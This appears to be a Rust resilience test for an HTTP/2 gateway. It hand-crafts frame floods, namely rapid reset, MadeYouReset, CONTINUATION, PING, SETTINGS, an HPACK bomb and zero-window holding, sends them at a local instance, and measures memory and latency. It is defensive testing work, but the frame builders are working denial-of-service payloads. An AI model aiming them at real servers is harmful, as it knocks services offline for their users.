//! Floods of HTTP/2 frames, written byte by byte since no client library would send them (P-E2, P-E3).

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use serde_json::json;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{Instant, sleep, timeout};
use tollgate_tests::{Gateway, Place};

use super::attack::Attack;
use super::checks::Checks;
use super::good::{Good, Mix};
use super::process::Process;
use super::wire::{Alpn, Wire};
use crate::report::Found;
use crate::rows::Here;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const CONNECTIONS: usize = 4;
/// Streams or frames that one write holds.
const BURST: u32 = 200;
/// P-E2, P-E3: resident memory may grow by this.
const GROWTH_KIB: u64 = 16 << 10;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Flood {
    RapidReset,
    /// Streams that the server has to reset: a window update of zero for each.
    MadeYouReset,
    Continuation,
    EmptyData,
    Ping,
    Settings,
    /// One large field in the table, referred to again and again.
    HpackBomb,
    /// Requests whose replies may never be sent.
    WindowZero,
}

const RESETS: [Flood; 2] = [Flood::RapidReset, Flood::MadeYouReset];
const OTHERS: [Flood; 6] =
    [Flood::Continuation, Flood::EmptyData, Flood::Ping, Flood::Settings, Flood::HpackBomb, Flood::WindowZero];

/// A frame (RFC 9113, 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut frame = length[1..].to_vec();
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// The head of a GET, by HPACK's static table and literals.
fn head(path: &str) -> Vec<u8> {
    let mut block = vec![0x82, 0x87, 0x41, 9];
    block.extend_from_slice(b"localhost");
    block.extend_from_slice(&[0x44, u8::try_from(path.len()).unwrap_or(0)]);
    block.extend_from_slice(path.as_bytes());
    block
}

impl Flood {
    fn opening(self) -> Vec<u8> {
        // INITIAL_WINDOW_SIZE (4) of zero, or no settings.
        let settings: &[u8] = if self == Flood::WindowZero { &[0, 4, 0, 0, 0, 0] } else { &[] };
        let mut bytes = [PREFACE, &frame(4, 0, 0, settings)].concat();
        match self {
            // A head that never ends.
            Flood::Continuation => bytes.extend(frame(1, 0x1, 1, &head("/health"))),
            // A head whose body is to come.
            Flood::EmptyData => bytes.extend(frame(1, 0x4, 1, &head("/health"))),
            _ => {}
        }
        bytes
    }

    /// The burst with this number, and how many streams or frames it counts as.
    fn burst(self, number: u32) -> Vec<u8> {
        let ids = (number * BURST..(number + 1) * BURST).map(|index| index * 2 + 1);
        let many = |frame: Vec<u8>| frame.repeat(usize::try_from(BURST).unwrap_or(1));
        match self {
            Flood::RapidReset => {
                ids.flat_map(|id| [frame(1, 0x5, id, &head("/health")), frame(3, 0, id, &8_u32.to_be_bytes())].concat()).collect()
            }
            Flood::MadeYouReset => {
                ids.flat_map(|id| [frame(1, 0x5, id, &head("/health")), frame(8, 0, id, &[0; 4])].concat()).collect()
            }
            Flood::Continuation => many(frame(9, 0, 1, b"\x40\x01x\x01y")),
            Flood::EmptyData => many(frame(0, 0, 1, b"")),
            Flood::Ping => many(frame(6, 0, 0, &[7; 8])),
            Flood::Settings => many(frame(4, 0, 0, &[0, 3, 0, 0, 0, 100])),
            Flood::HpackBomb => ids.enumerate().flat_map(|(at, id)| frame(1, 0x5, id, &bomb(number == 0 && at == 0))).collect(),
            Flood::WindowZero => ids.flat_map(|id| frame(1, 0x5, id, &head("/health"))).collect(),
        }
    }
}

/// A head with a field of 3,900 bytes: put into the table once, then named 4,000 times at a byte each.
fn bomb(is_first: bool) -> Vec<u8> {
    let mut block = head("/health");
    if is_first {
        // Literal with indexing, new name; the value's length takes more than its prefix of 7 bits (3,900 - 127 = 3,773).
        block.extend_from_slice(&[0x40, 1, b'x', 0x7f, 0xbd, 0x1d]);
        block.extend_from_slice(&[b'a'; 3_900]);
    }
    block.extend_from_slice(&[0xbe; 4_000]);
    block
}

/// What the attackers count.
#[derive(Debug, Default)]
struct Count {
    sent: AtomicU64,
    connections: AtomicU64,
    /// Connections that ended with GOAWAY or a close, and the longest that one took.
    ended: AtomicU64,
    longest_ms: AtomicU64,
}

/// Floods on one connection after the other.
async fn attacker(wire: Wire, flood: Flood, source: Ipv4Addr, count: Arc<Count>) {
    loop {
        if let Ok(stream) = wire.tls(Alpn::Http2, source).await {
            count.connections.fetch_add(1, Ordering::Relaxed);
            let (mut read, mut write) = tokio::io::split(stream);
            let began = Instant::now();
            let writing = async {
                write.write_all(&flood.opening()).await?;
                for number in 0.. {
                    write.write_all(&flood.burst(number)).await?;
                    write.flush().await?;
                    count.sent.fetch_add(u64::from(BURST), Ordering::Relaxed);
                    if flood == Flood::WindowZero {
                        // The streams are held; more of them than may be open would be refused.
                        sleep(Duration::from_secs(40)).await;
                    }
                }
                std::io::Result::Ok(())
            };
            let reading = async {
                let mut chunk = [0; 16 << 10];
                while let Ok(count) = read.read(&mut chunk).await {
                    // A GOAWAY is what a client would leave at; this one goes on writing until it is cut off.
                    if count == 0 {
                        break;
                    }
                }
            };
            let both = async {
                tokio::select! { _ = writing => {}, () = reading => {} }
            };
            let _ = timeout(Duration::from_secs(90), both).await;
            count.ended.fetch_add(1, Ordering::Relaxed);
            count.longest_ms.fetch_max(u64::try_from(began.elapsed().as_millis()).unwrap_or(u64::MAX), Ordering::Relaxed);
        }
        sleep(Duration::from_millis(1)).await;
    }
}

/// Requests in flight 5 s after the attackers have gone.
async fn in_flight(gateway: &Gateway) -> u64 {
    let mut left = u64::MAX;
    for _ in 0..50 {
        left = gateway.admin(&["status"]).await["listeners"][0]["requests"].as_u64().unwrap_or(u64::MAX);
        if left == 0 {
            break;
        }
        sleep(Duration::from_millis(100)).await;
    }
    left
}

async fn row(here: Here, floods: &[Flood], most: f64) -> anyhow::Result<Found> {
    let (seconds, rate) = here.pick((60, 200), (4, 100));
    let place = Place::new();
    place.write("tollgate.toml", "[log]\nlevel = \"error\"\n");
    let gateway = place.start().await;
    let (wire, process) = (Wire::new(&place, &gateway)?, Process(gateway.pid()));
    let alone = Good::run_for(&wire, rate, Mix::Mixed, Duration::from_secs(here.pick(30, 5))).await;
    let mut checks = Checks::default();
    for flood in floods {
        let before = process.rss_kib()?;
        let (attack, count) = (Attack::new()?, Arc::new(Count::default()));
        let good = Good::start(&wire, rate, Mix::Mixed);
        for number in 0..CONNECTIONS {
            let source = Ipv4Addr::new(127, 0, 2, u8::try_from(number + 1).unwrap_or(1));
            attack.spawn(attacker(wire.clone(), *flood, source, Arc::clone(&count)));
        }
        let ((), peak) = process.peak_kib(sleep(Duration::from_secs(seconds))).await?;
        drop(attack);
        let tally = good.finish().await;
        let left = in_flight(&gateway).await;
        let (sent, ended) = (count.sent.load(Ordering::Relaxed), count.ended.load(Ordering::Relaxed));
        let (grown, longest) = (peak.saturating_sub(before), count.longest_ms.load(Ordering::Relaxed));
        let ratio = tally.quantile_ms(0.99) / alone.quantile_ms(0.99).max(0.001);
        let line = format!(
            "{flood:?}: {}/s sent, {ended} connections cut, longest after {longest} ms, RSS +{} KiB, {left} in flight after, others' p99 {ratio:.2}x with {} failed",
            sent / seconds,
            grown,
            tally.failed
        );
        checks.check(line, grown <= GROWTH_KIB && left == 0 && tally.failed == 0 && ratio < most);
        checks.sample(
            &format!("{flood:?}"),
            json!({ "good": tally.json(), "connections": count.connections.load(Ordering::Relaxed) }),
        );
    }
    checks.sample("alone", alone.json());
    checks
        .method("Four connections from as many addresses at low priority on this machine, each opened anew when it is cut off.");
    Ok(checks.found())
}

/// P-E2.
pub(crate) async fn resets(here: Here) -> anyhow::Result<Found> {
    row(here, &RESETS, 3.0).await
}

/// P-E3.
pub(crate) async fn others(here: Here) -> anyhow::Result<Found> {
    row(here, &OTHERS, 3.0).await
}
